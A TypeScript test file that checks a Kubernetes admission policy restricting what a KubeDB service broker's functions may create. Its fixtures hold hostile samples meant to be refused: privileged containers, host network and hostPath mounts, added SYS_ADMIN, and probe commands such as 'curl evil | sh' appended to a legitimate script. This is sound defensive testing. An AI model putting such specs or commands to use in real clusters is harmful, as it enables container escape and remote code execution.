/** The admission policy, against the API server's own CEL and with the functions' own tokens. */
import { randomUUID } from 'node:crypto'
import test from 'ava'
import { apply } from '../../sandbox/control-plane/administrator.ts'
import { kinds } from '../../shared/kubedb/databases/kinds.ts'
import { hash26 } from '../../shared/kubedb/records/names.ts'
import type { JsonObject } from '../../shared/values/json.ts'
import { type JsonAnswer, type TestCluster, useCluster } from '../support/cluster.ts'
import { instanceId, recordedDatabase } from '../support/plan-walk.ts'
import { denied, policiesInForce, postgresDraft } from '../support/policies.ts'
import { makeFastClass } from '../support/storage-class.ts'
import { firstDefaulted, readRecord } from '../support/webhook-record.ts'

const cluster = useCluster(test)
const { broker, databases } = cluster.namespaces
const label = { 'osb.kubedb.com/instance': 'abcdefghijklmnopqrstuvwxyz' }

type Ask = TestCluster['admin']
/** As functions: with their own roles; and `any`, a function that may do everything, so that only the policy stops it. */
let provision: Ask
let update: Ask
let deprovision: Ask
let bind: Ask
let any: Ask

const postgres = (spec: JsonObject = {}, metadata: JsonObject = {}): JsonObject =>
  postgresDraft(spec, { namespace: databases, labels: label, ...metadata })
const container = (more: JsonObject) => ({
  podTemplate: { spec: { containers: [{ name: 'postgres', ...more }] } },
})
const pod = (spec: JsonObject) => ({ podTemplate: { spec } })

const path = (plural: string, dry = true) => `${cluster.databasesPath(plural)}${dry ? '?dryRun=All' : ''}`

test.before('a function that may do everything, and a policy in force', async () => {
  await cluster.ready()
  const name = `osb-hostile-${broker}`
  await apply(cluster.administrator, [
    {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRoleBinding',
      metadata: { name },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'ServiceAccount', name: 'osb-catalog', namespace: broker }],
    } as Parameters<typeof apply>[1][number],
  ])
  provision = await cluster.as('osb-provision')
  update = await cluster.as('osb-update')
  deprovision = await cluster.as('osb-deprovision')
  bind = await cluster.as('osb-bind')
  any = await cluster.as('osb-catalog')
  await policiesInForce(cluster)
})

test.after.always('take the function its rights', async () => {
  await cluster.admin(
    'DELETE',
    `/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/osb-hostile-${broker}`,
  )
})

test('a database as the broker makes it passes, with resources and a place for its pods', async (t) => {
  for (const spec of [
    {},
    container({ resources: { requests: { cpu: '1' } } }),
    container({ resizePolicy: [{ resourceName: 'cpu', restartPolicy: 'NotRequired' }] }),
    pod({ nodeSelector: { disk: 'ssd' }, tolerations: [], containers: [] }),
  ]) {
    const answer = await provision('POST', path('postgreses'), postgres(spec))
    t.is(answer.status, 201, answer.text)
  }
})

test('the one variable that KubeDB writes into a Kafka passes there, and nowhere else', async (t) => {
  const env = [{ name: 'KAFKA_CLUSTER_ID', value: '11ef-8d3c-0242ac12000w' }]
  const kafka: JsonObject = {
    apiVersion: 'kubedb.com/v1',
    kind: 'Kafka',
    metadata: { name: `osb-${label['osb.kubedb.com/instance']}`, namespace: databases, labels: label },
    spec: {
      version: '4.0.0',
      storageType: 'Durable',
      storage: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } },
      podTemplate: { spec: { containers: [{ name: 'kafka', env }] } },
    },
  }
  const answer = await provision('POST', path('kafkas'), kafka)
  // Its webhook may know no such version: it speaks before the policy does.
  t.true(answer.status === 201 || /version/i.test(answer.text), answer.text)
  t.false(denied(answer))
  const other = await provision('POST', path('postgreses'), postgres(container({ env })))
  if (cluster.crds === 'own' && other.status === 201) t.notRegex(other.text, /KAFKA_CLUSTER_ID/)
  else t.true(denied(other), other.text)
})

const hostile: { [what: string]: [object: () => JsonObject, sentence: RegExp] } = {
  'a name without osb-': [() => postgres({}, { name: 'payroll' }), /begin with osb-/],
  // KubeDB names a ServiceAccount after a name that is not there yet. Which of two policies speaks, nobody says.
  'a name that the server makes': [
    () => postgres({}, { name: null, generateName: 'pay' }),
    /begin with osb-|podTemplate\.spec\.serviceAccountName/,
  ],
  'no label': [() => postgres({}, { labels: {} }), /its label/],
  'a label of another form': [
    () => postgres({}, { labels: { 'osb.kubedb.com/instance': 'mine' } }),
    /its label/,
  ],
  'a finalizer': [() => postgres({}, { finalizers: ['osb.kubedb.com/x'] }), /finalizers/],
  'host network': [() => postgres(pod({ hostNetwork: true })), /podTemplate\.spec\.hostNetwork/],
  'host processes': [() => postgres(pod({ hostPID: true })), /podTemplate\.spec\.hostPID/],
  'a volume': [
    () => postgres(pod({ volumes: [{ name: 'x', hostPath: { path: '/' } }] })),
    /podTemplate\.spec\.volumes/,
  ],
  'a foreign ServiceAccount': [
    () => postgres(pod({ serviceAccountName: 'default' })),
    /podTemplate\.spec\.serviceAccountName/,
  ],
  'an image': [() => postgres(container({ image: 'evil' })), /podTemplate\.spec\.containers\[\]\.image/],
  'a command': [() => postgres(container({ command: ['sh'] })), /podTemplate\.spec\.containers\[\]\.command/],
  arguments: [() => postgres(container({ args: ['-c'] })), /podTemplate\.spec\.containers\[\]\.args/],
  environment: [
    () => postgres(container({ env: [{ name: 'X', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }] })),
    /podTemplate/,
  ],
  'environment out of a Secret': [
    () =>
      postgres(
        container({
          env: [{ name: 'KAFKA_CLUSTER_ID', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }],
        }),
      ),
    /podTemplate/,
  ],
  'a mounted volume': [
    () => postgres(container({ volumeMounts: [{ name: 'x', mountPath: '/x' }] })),
    /podTemplate/,
  ],
  privileges: [
    () => postgres(container({ securityContext: { privileged: true } })),
    /podTemplate\.spec\.containers\[\]\.securityContext\.privileged/,
  ],
  'escalated privileges': [
    () => postgres(container({ securityContext: { allowPrivilegeEscalation: true } })),
    /podTemplate/,
  ],
  'a capability': [
    () => postgres(container({ securityContext: { capabilities: { add: ['SYS_ADMIN'] } } })),
    /podTemplate/,
  ],
  'a container before the engine with an image': [
    () => postgres(pod({ initContainers: [{ name: 'x', image: 'evil' }] })),
    /podTemplate/,
  ],
  'a script at the start': [
    () => postgres({ init: { script: { secret: { secretName: 'foreign' } } } }),
    /spec\.init/,
  ],
  'the password of another instance': [
    () => postgres({ authSecret: { name: 'osb-other-auth' } }),
    /spec\.authSecret\.name/,
  ],
  'settings from a foreign Secret': [
    () => postgres({ configuration: { secretName: 'foreign' } }),
    /spec\.configuration\.secretName/,
  ],
}
for (const [what, [object, sentence]] of Object.entries(hostile)) {
  test(`a database with ${what} is refused`, async (t) => {
    const answer = await provision('POST', path('postgreses'), object())
    // The sandbox's own CRDs do not even know some of these fields: with strict validation off they are dropped.
    const pruned = answer.status === 201 && cluster.crds === 'own'
    if (pruned) t.log('the CRDs of this run have no such field')
    else {
      t.true(denied(answer), answer.text)
      t.regex(answer.text, sentence)
    }
    if (pruned) t.notRegex(answer.text, /evil|foreign|hostNetwork"|hostPID"|SYS_ADMIN|privileged"/)
  })
}

const encrypted =
  '--tls --tlsCAFile=/var/run/mongodb/tls/ca.crt --tlsCertificateKeyFile=/var/run/mongodb/tls/client.pem'
/** A probe as KubeDB's defaulter writes it, told here once more and not by the generator. */
const probe = (shell: 'mongo' | 'mongosh', tls = ''): JsonObject => ({
  exec: {
    command: [
      'bash',
      '-c',
      `set -x; if [[ $(${shell} admin --host=localhost ${tls} --quiet --eval "db.adminCommand('ping').ok" ) -eq "1" ]]; then \n          exit 0\n        fi\n        exit 1`,
    ],
  },
  failureThreshold: 3,
  periodSeconds: 10,
  successThreshold: 1,
  timeoutSeconds: 5,
})
const probed = (livenessProbe: JsonObject, readinessProbe = livenessProbe, name = 'mongodb') =>
  pod({ containers: [{ name, livenessProbe, readinessProbe }] })
const mongodb = (spec: JsonObject): JsonObject => ({
  ...postgres({ version: '8.0.17', ...spec }),
  kind: 'MongoDB',
})
const sharded = (part: 'shard' | 'configServer' | 'mongos', template: JsonObject): JsonObject => {
  const storage = { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } }
  const parts: { [name: string]: JsonObject } = {
    shard: { shards: 2, replicas: 3, storage },
    configServer: { replicas: 3, storage },
    mongos: { replicas: 2 },
  }
  const shardTopology = { ...parts, [part]: { ...parts[part], ...template } }
  const spec = { version: '8.0.17', storageType: 'Durable', deletionPolicy: 'WipeOut', shardTopology }
  return { ...mongodb({}), spec }
}

/** What a cluster with the sandbox's own CRDs drops cannot be judged there. */
const judged = ({ text }: JsonAnswer) => cluster.crds === 'upstream' || /Probe/.test(text)

test('a MongoDB with the probes that KubeDB writes passes, at its making and at every change', async (t) => {
  for (const template of [
    probed(probe('mongosh', '')),
    probed(probe('mongosh', encrypted)),
    probed(probe('mongo', '')),
    probed(probe('mongo', encrypted)),
  ]) {
    const answer = await provision('POST', path('mongodbs'), mongodb(template))
    t.is(answer.status, 201, answer.text)
    for (const part of ['shard', 'configServer', 'mongos'] as const) {
      const made = await provision('POST', path('mongodbs'), sharded(part, template))
      t.is(made.status, 201, `${part}: ${made.text}`)
    }
  }
  // Made while KubeDB's webhook was away: it writes the probes at the next change.
  const object = mongodb({})
  const one = `${cluster.databasesPath('mongodbs')}/${(object.metadata as JsonObject).name}`
  t.is((await provision('POST', path('mongodbs', false), object)).status, 201)
  const change = { spec: { deletionPolicy: 'Delete', ...probed(probe('mongosh', '')) } }
  for (const changer of [update, deprovision]) {
    const answer = await changer('PATCH', one, change, 'application/merge-patch+json')
    t.is(answer.status, 200, answer.text)
  }
  t.is((await deprovision('DELETE', one)).status, 200)
})

test('what KubeDB has made of every plan passes', async (t) => {
  await makeFastClass(cluster)
  for (const kind of kinds.values()) {
    const { name } = recordedDatabase(kind)
    const labels = { 'osb.kubedb.com/instance': hash26(instanceId) }
    for (const [title, { spec = {} }] of firstDefaulted(readRecord(kind.kind))) {
      const metadata = { name, namespace: databases, labels }
      const object = { apiVersion: kind.apiVersion, kind: kind.kind, metadata, spec }
      const answer = await provision('POST', path(kind.plural), object)
      t.is(answer.status, 201, `${title}: ${answer.text}`)
    }
  }
})

test('no probe but those of KubeDB, and nowhere else', async (t) => {
  const good = probe('mongosh', '')
  const command = (text: string) => ({ ...good, exec: { command: ['bash', '-c', text] } })
  const script = String((good.exec as { command: string[] }).command[2])
  const attempts: [what: string, plural: string, object: JsonObject][] = [
    ['a command', 'mongodbs', mongodb(probed(command('curl evil | sh')))],
    ['a command behind that of KubeDB', 'mongodbs', mongodb(probed(command(`${script}; curl evil`)))],
    ['as the second probe', 'mongodbs', mongodb(probed(good, command('sh')))],
    ['at another interval', 'mongodbs', mongodb(probed({ ...good, periodSeconds: 1 }))],
    ['with a member more', 'mongodbs', mongodb(probed({ ...good, httpGet: { port: 1 } }))],
    ['in another container', 'mongodbs', mongodb(probed(good, good, 'replication-mode-detector'))],
    ['a startup probe', 'mongodbs', mongodb(pod({ containers: [{ name: 'mongodb', startupProbe: good }] }))],
    ['in a part of shards', 'mongodbs', sharded('mongos', probed(command('sh')))],
    ['for another kind', 'postgreses', postgres(probed(good))],
    ['for another kind by that name', 'postgreses', postgres(probed(good, good, 'postgres'))],
  ]
  for (const [what, plural, object] of attempts) {
    const answer = await provision('POST', path(plural), object)
    if (judged(answer)) t.true(denied(answer), `${what}: ${answer.text}`)
    else t.log(`${what}: the CRDs of this run have no such field`)
  }
  t.pass()
})

test('pod templates in parts of a database are bounded too', async (t) => {
  const storage = { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } }
  const part = { replicas: 1, storage }
  const evil = { ...part, ...pod({ hostNetwork: true }) }
  const object = (data: JsonObject): JsonObject => ({
    apiVersion: 'kubedb.com/v1',
    kind: 'Elasticsearch',
    metadata: { name: `osb-${randomUUID()}`, namespace: databases, labels: label },
    spec: { version: 'xpack-8.19.9', storageType: 'Durable', topology: { data, ingest: part, master: part } },
  })
  const good = await provision('POST', path('elasticsearches'), object(part))
  // Its webhook may know no such version: it speaks before the policy does.
  if (good.status !== 201) t.log(good.text)
  const answer = await provision('POST', path('elasticsearches'), object(evil))
  if (answer.status === 201) t.notRegex(answer.text, /hostNetwork"/)
  else t.true(denied(answer), answer.text)
})

test('what the broker did not make is neither changed nor deleted', async (t) => {
  const foreign = postgres({}, { name: `osb-${randomUUID()}`, labels: { app: 'payroll' } })
  const other = postgres({}, { name: 'payroll' })
  for (const object of [foreign, other]) {
    const made = await cluster.admin('POST', path('postgreses', false), object)
    t.is(made.status, 201, made.text)
    const name = (object.metadata as JsonObject).name
    const one = `${cluster.databasesPath('postgreses')}/${name}`
    const patch = { spec: { deletionPolicy: 'Delete' } }
    t.true(denied(await update('PATCH', one, patch, 'application/merge-patch+json')))
    // Nor can it make it its own first.
    const mine = { metadata: { labels: label } }
    t.true(denied(await update('PATCH', one, mine, 'application/merge-patch+json')))
    t.true(denied(await deprovision('DELETE', one)))
    t.is((await cluster.admin('DELETE', one)).status, 200)
  }
})

test('what the broker made is changed within bounds, keeps its label, and is deleted', async (t) => {
  const object = postgres()
  const one = `${cluster.databasesPath('postgreses')}/${(object.metadata as JsonObject).name}`
  t.is((await provision('POST', path('postgreses', false), object)).status, 201)
  const patch = async (change: JsonObject) => update('PATCH', one, change, 'application/merge-patch+json')
  t.is((await patch({ spec: { deletionPolicy: 'Delete' } })).status, 200)
  t.true(denied(await patch({ metadata: { labels: { 'osb.kubedb.com/instance': null } } })))
  t.true(denied(await patch({ metadata: { labels: { 'osb.kubedb.com/instance': 'z'.repeat(26) } } })))
  t.true(denied(await patch({ spec: { init: { initialized: true, script: { scriptPath: 'x' } } } })))
  t.true(denied(await patch({ spec: container({ command: ['sh'] }) })) || cluster.crds === 'own')
  t.is((await deprovision('DELETE', one)).status, 200)
})

test('a record is in the namespace of the broker and names nothing', async (t) => {
  const record = (spec: JsonObject = {}, metadata: JsonObject = {}): JsonObject => ({
    apiVersion: 'appcatalog.appscode.com/v1alpha1',
    kind: 'AppBinding',
    metadata: { name: `osb-b-${'a'.repeat(26)}`, labels: label, ...metadata },
    spec: { type: 'osb.kubedb.com/binding', clientConfig: {}, ...spec },
  })
  const records = `${cluster.recordsPath()}?dryRun=All`
  t.is((await bind('POST', records, record())).status, 201)
  const url = { clientConfig: { url: 'tcp(elsewhere:1)/' } }
  t.true(denied(await bind('POST', records, record(url))))
  t.true(denied(await bind('POST', records, record({ secret: { name: 'osb-keys' } }))))
  t.true(denied(await bind('POST', records, record({ type: 'kubedb.com/postgres' }))))
  t.true(denied(await bind('POST', records, record({}, { labels: {} }))))
  t.true(denied(await any('POST', path('appbindings'), record())))
})

test('an OpsRequest is about a database of the broker', async (t) => {
  const request = (database: string, metadata: JsonObject = {}): JsonObject => ({
    apiVersion: 'ops.kubedb.com/v1alpha1',
    kind: 'PostgresOpsRequest',
    metadata: { name: `osb-${randomUUID()}`, labels: label, ...metadata },
    spec: { type: 'Restart', databaseRef: { name: database } },
  })
  const answer = await update('POST', path('postgresopsrequests'), request('payroll'))
  t.true(denied(answer) || /databaseRef|not found|type/.test(answer.text), answer.text)
  const unlabelled = await update('POST', path('postgresopsrequests'), request('osb-x', { labels: {} }))
  t.true(denied(unlabelled) || /databaseRef|not found|type/.test(unlabelled.text), unlabelled.text)
})

test('whatever roles say, a function writes nothing else, and not elsewhere', async (t) => {
  for (const namespace of [broker, 'kube-system', 'kube-public']) {
    const where = `/apis/kubedb.com/v1/namespaces/${namespace}/postgreses?dryRun=All`
    const answer = await any('POST', where, postgres({}, { namespace }))
    t.true(denied(answer), answer.text)
    t.regex(answer.text, /no databases are in/)
  }
  const named = { metadata: { name: 'osb-x', labels: label } }
  const attempts: [path: string, object: JsonObject][] = [
    [path('secrets').replace(databases, broker), { apiVersion: 'v1', kind: 'Secret', ...named }],
    [path('secrets'), { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'osb-x' } }],
    [path('configmaps'), { apiVersion: 'v1', kind: 'ConfigMap', ...named }],
    [path('serviceaccounts'), { apiVersion: 'v1', kind: 'ServiceAccount', ...named }],
    [
      '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?dryRun=All',
      {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'ClusterRoleBinding',
        ...named,
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      },
    ],
    ['/api/v1/namespaces?dryRun=All', { apiVersion: 'v1', kind: 'Namespace', ...named }],
  ]
  for (const [where, object] of attempts) {
    const answer = await any('POST', where, object)
    t.true(denied(answer), `${where}: ${answer.text}`)
  }
  // A function that writes no Secrets writes none, however it is called; of those that do see stolen-tokens.test.ts.
  t.true(denied(await any('POST', path('secrets'), { apiVersion: 'v1', kind: 'Secret', ...named })))
  t.true(denied(await any('DELETE', `/api/v1/namespaces/${databases}?dryRun=All`)))
  // Reviews of tokens are written too, in a way.
  const review = {
    apiVersion: 'authentication.k8s.io/v1',
    kind: 'TokenReview',
    spec: { token: 'x' },
  }
  t.is((await any('POST', '/apis/authentication.k8s.io/v1/tokenreviews', review)).status, 201)
})

test('who is no function of the broker is not bounded', async (t) => {
  const answer = await cluster.admin(
    'POST',
    path('postgreses'),
    postgres({}, { name: 'payroll', labels: {} }),
  )
  t.is(answer.status, 201, answer.text)
})
